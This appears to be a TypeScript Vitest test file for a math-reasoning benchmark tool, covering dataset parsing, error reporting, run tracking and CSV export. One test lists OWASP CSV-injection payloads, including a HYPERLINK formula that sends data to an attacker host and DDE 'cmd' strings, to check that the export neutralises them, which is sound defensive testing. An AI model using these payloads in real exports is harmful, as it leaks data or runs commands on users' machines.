import { describe, it, expect } from 'vitest';
import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { parseDataset, parseGsm8kGold, DatasetParseError, describeSkipped, seededOrder, selectProblems, DATASETS } from '../../src/reasoning/datasets.ts';
import { datasetUrl } from '../../src/reasoning/datasetStore.ts';
import { createRun, addRunItem, remainingIndices, runProgress, runRows } from '../../src/reasoning/runs.ts';
import { toCsv, toJsonl, parseCsv } from '../../src/reasoning/export.ts';

const DATA_DIR = resolve(process.env.REASONING_LAB_DATA ?? resolve(import.meta.dirname, '../../../shared/data'));
const read = (p: string) => readFileSync(resolve(DATA_DIR, p), 'utf8');

describe('the shared data files parse completely', () => {
  it.each([
    ['gsm8k', 'gsm8k/test.jsonl', 1319],
    ['gsm8k', 'llm-adapters/gsm8k/test.json', 1319],
    ['svamp', 'llm-adapters/SVAMP/test.json', 1000],
    ['aqua', 'llm-adapters/AQuA/test.json', 254],
    ['mawps', 'llm-adapters/mawps/test.json', 238],
  ] as const)('%s %s', (name, path, count) => {
    const parsed = parseDataset(read(path), name);
    expect(parsed.skipped).toEqual([]);
    expect(parsed.problems).toHaveLength(count);
    expect(DATASETS[name].size).toBe(count);
    parsed.problems.forEach((p, i) => expect(p.index).toBe(i));
  });

  it('gold values', () => {
    const gsm = parseDataset(read('gsm8k/test.jsonl'), 'gsm8k');
    expect(gsm.format).toBe('openai-jsonl');
    expect(gsm.problems[0].gold).toBe(18);
    expect(gsm.problems[0].question.startsWith('Janet’s ducks lay 16 eggs')).toBe(true);
    expect(gsm.problems[0].goldSolution).toContain('<<16-3-4=9>>');
    const aqua = parseDataset(read('llm-adapters/AQuA/test.json'), 'aqua');
    expect(aqua.format).toBe('llm-adapters-json');
    expect(aqua.problems[0].gold).toBe('A');
    const mawps = parseDataset(read('llm-adapters/mawps/test.json'), 'mawps');
    expect(mawps.problems[0].gold).toBeCloseTo(1.8333333333333335, 12);
    // The two GSM8K layouts hold the same gold answers (in a different order).
    const adapters = parseDataset(read('llm-adapters/gsm8k/test.json'), 'gsm8k');
    const sorted = (xs: Array<number | string>) => xs.map(Number).sort((a, b) => a - b);
    expect(sorted(adapters.problems.map((p) => p.gold))).toEqual(sorted(gsm.problems.map((p) => p.gold)));
  });
});

describe('malformed input is reported by line, never silently', () => {
  it('jsonl', () => {
    const text = [
      '{"question": "Q0?", "answer": "x\\n#### 1,234"}',
      '{"question": "Q1?", "answer": "no marker"}',
      'not json',
      '',
      '{"answer": "#### 3"}',
      '{"question": "Q4?", "answer": "#### -5"}',
      '{"question": "Q5?", "answer": "#### five"}',
      '[1]',
    ].join('\n');
    const parsed = parseDataset(text, 'gsm8k');
    expect(parsed.problems.map((p) => [p.index, p.gold])).toEqual([
      [0, 1234],
      [4, -5],
    ]);
    expect(parsed.skipped.map((s) => [s.line, s.index])).toEqual([
      [2, 1],
      [3, 2],
      [5, 3],
      [7, 5],
      [8, 6],
    ]);
    expect(parsed.skipped[0].reason).toMatch(/####/);
    expect(parsed.skipped[1].reason).toMatch(/invalid JSON/);
    expect(parsed.skipped[2].reason).toMatch(/missing "question"/);
    expect(parsed.skipped[4].reason).toMatch(/not a JSON object/);
    expect(parsed.total).toBe(7);
    expect(describeSkipped(parsed.skipped)[0]).toBe('line 2 (item 1): answer has no parseable "#### <number>" line');
  });

  it('LLM-Adapters json array', () => {
    const text = `[
  {"instruction": "Q0", "input": "", "output": "", "answer": "576.0"},
  {"instruction": "", "input": "", "output": "", "answer": "1"},
  {
    "instruction": "Q2 with a \\"quoted\\" [bracket] {brace}",
    "answer": "abc"
  },
  {"instruction": "Q3", "answer": 7}
]`;
    const parsed = parseDataset(text, 'svamp');
    expect(parsed.problems.map((p) => [p.index, p.gold])).toEqual([
      [0, 576],
      [3, 7],
    ]);
    expect(parsed.skipped).toEqual([
      { line: 3, index: 1, reason: 'missing "question"/"instruction"' },
      { line: 4, index: 2, reason: 'answer "abc" is not a number' },
    ]);
    const aqua = parseDataset('[{"instruction": "Q", "answer": "F"}, {"instruction": "Q", "answer": " B "}]', 'aqua');
    expect(aqua.skipped[0].reason).toMatch(/not an option letter/);
    expect(aqua.problems[0]).toEqual({ index: 1, question: 'Q', gold: 'B' });
  });

  it('a broken JSON array fails with its line', () => {
    expect(() => parseDataset('[\n{"instruction": "Q"},\n{oops}\n]', 'svamp')).toThrow(DatasetParseError);
  });

  it('GSM8K gold parsing', () => {
    expect(parseGsm8kGold('a\n#### 1,000')).toBe(1000);
    expect(parseGsm8kGold('#### -3.5\n')).toBe(-3.5);
    expect(parseGsm8kGold('#### 12\nmore')).toBeNull();
  });
});

describe('problem selection, runs and export', () => {
  it('seeded order is a deterministic permutation', () => {
    const a = seededOrder(50, 42);
    expect(a).toEqual(seededOrder(50, 42));
    expect([...a].sort((x, y) => x - y)).toEqual(Array.from({ length: 50 }, (_, i) => i));
    expect(a).not.toEqual(seededOrder(50, 43));
    const problems = Array.from({ length: 10 }, (_, i) => ({ index: i, question: `q${i}`, gold: i }));
    expect(selectProblems(problems, { limit: 3 }).map((p) => p.index)).toEqual([0, 1, 2]);
    expect(selectProblems(problems, { limit: 3, seed: 1 })).toHaveLength(3);
  });

  it('a run accumulates, resumes and exports', () => {
    let run = createRun({ dataset: 'gsm8k', promptId: 'baseline', promptTemplate: '{question}', adapter: null, model: 'tiny' }, [5, 2, 9], 1000);
    run = addRunItem(run, { index: 5, pred: 18, gold: 18, correct: true, output: 'The answer is 18, "quoted"\nnext' });
    run = addRunItem(run, { index: 2, pred: null, gold: 3, correct: false, output: '=1+1' });
    expect(remainingIndices(run)).toEqual([9]);
    const progress = runProgress(run);
    expect(progress).toMatchObject({ done: 2, total: 3, accuracyCurve: [1, 0.5] });
    expect(progress.summary.accuracy).toBe(0.5);
    const rows = runRows(run);
    const csv = toCsv(rows);
    const parsed = parseCsv(csv);
    expect(parsed[0]).toEqual(['run', 'dataset', 'prompt', 'adapter', 'model', 'index', 'pred', 'gold', 'correct', 'output']);
    expect(parsed[1].slice(5)).toEqual(['5', '18', '18', 'true', 'The answer is 18, "quoted"\nnext']);
    // Model output that looks like a formula is kept as text in a spreadsheet.
    expect(parsed[2].slice(5)).toEqual(['2', '', '3', 'false', "'=1+1"]);
    expect(
      toJsonl(rows)
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l).index),
    ).toEqual([5, 2]);
  });

  it('CSV cells that a spreadsheet would run as formulas stay text; numbers, negatives included, stay numbers', () => {
    // The classic payloads (OWASP "CSV Injection"), as model output or an adapter name could carry them.
    const payloads = [
      '=HYPERLINK("http://attacker.invalid/?"&A1,"Click")',
      "+1+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      '=1+1',
    ];
    const rows = payloads.map((output, i) => ({ index: i, output, pred: -3 - i, gold: '-12.5', name: '-1e-3' }));
    const parsed = parseCsv(toCsv(rows));
    expect(parsed.slice(1).map((r) => r[1])).toEqual(payloads.map((p) => `'${p}`));
    for (const r of parsed.slice(1)) {
      expect(Number(r[2])).toBeLessThan(0);
      expect(r.slice(3)).toEqual(['-12.5', '-1e-3']);
    }
    // Text that merely contains those characters later is untouched.
    expect(parseCsv(toCsv([{ output: 'a = b + c - d @ e' }]))[1]).toEqual(['a = b + c - d @ e']);
  });

  it('dataset URLs: public sources by default, ../shared/data layout under a base URL', () => {
    expect(datasetUrl('gsm8k')).toMatch(/^https:\/\/raw\.githubusercontent\.com\/openai\/grade-school-math\//);
    expect(datasetUrl('aqua', '/data/')).toBe('/data/llm-adapters/AQuA/test.json');
    expect(datasetUrl('gsm8k', 'http://localhost:5173/data')).toBe('http://localhost:5173/data/gsm8k/test.jsonl');
  });
});
